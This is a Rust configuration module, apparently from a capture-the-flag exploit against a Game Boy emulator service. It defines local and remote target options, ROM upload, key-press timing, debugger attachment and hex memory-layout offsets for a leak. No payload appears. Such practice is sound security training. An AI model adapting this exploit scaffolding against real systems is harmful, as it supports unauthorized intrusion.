use std::num::ParseIntError;
use std::path::PathBuf;
use std::time::Duration;

use clap::Parser;

use crate::layout::Layout;

pub const LOCAL_DELAY: Duration = Duration::from_millis(50);
pub const REMOTE_DELAY: Duration = Duration::from_millis(200);

fn parse_hex(s: &str) -> Result<u64, ParseIntError> {
    let digits = s
        .strip_prefix("0x")
        .or_else(|| s.strip_prefix("0X"))
        .unwrap_or(s);
    u64::from_str_radix(digits, 16)
}

/// Exploit for the gameboy emulator service.
#[derive(Parser, Debug)]
#[command(version)]
pub struct Opts {
    /// Attack the remote service instead of a local process
    #[arg(long)]
    pub remote: bool,

    #[arg(long, default_value = "gameboy.chal.pwning.xxx")]
    pub host: String,

    #[arg(long, default_value_t = 30908)]
    pub port: u16,

    /// Target binary to spawn in local mode
    #[arg(long, default_value = "./gameboy")]
    pub binary: PathBuf,

    /// ROM uploaded right after connecting
    #[arg(long, default_value = "gameboy.gb")]
    pub image: PathBuf,

    /// Pause between key presses [default: 50 local, 200 remote]
    #[arg(long)]
    pub delay_ms: Option<u64>,

    /// Wait for Enter after spawning so a debugger can attach
    #[arg(long)]
    pub attach: bool,

    #[arg(long, value_parser = parse_hex, default_value = "0xc0b")]
    pub leak_offset: u64,

    #[arg(long, value_parser = parse_hex, default_value = "0x203000")]
    pub data_offset: u64,

    #[arg(long, value_parser = parse_hex, default_value = "0xd00")]
    pub data_adjust: u64,

    #[arg(long, value_parser = parse_hex, default_value = "0xfd00")]
    pub second_delta: u64,
}

#[derive(Debug, Clone, PartialEq)]
pub enum Target {
    Local(PathBuf),
    Remote(String),
}

#[derive(Debug, Clone)]
pub struct Config {
    pub target: Target,
    pub image: PathBuf,
    pub delay: Duration,
    pub attach: bool,
    pub layout: Layout,
}

impl From<Opts> for Config {
    fn from(opts: Opts) -> Self {
        let (target, default_delay) = if opts.remote {
            (
                Target::Remote(format!("{}:{}", opts.host, opts.port)),
                REMOTE_DELAY,
            )
        } else {
            (Target::Local(opts.binary), LOCAL_DELAY)
        };
        Config {
            target,
            image: opts.image,
            delay: opts
                .delay_ms
                .map(Duration::from_millis)
                .unwrap_or(default_delay),
            attach: opts.attach && !opts.remote,
            layout: Layout {
                leak_offset: opts.leak_offset,
                data_offset: opts.data_offset,
                data_adjust: opts.data_adjust,
                second_delta: opts.second_delta,
            },
        }
    }
}
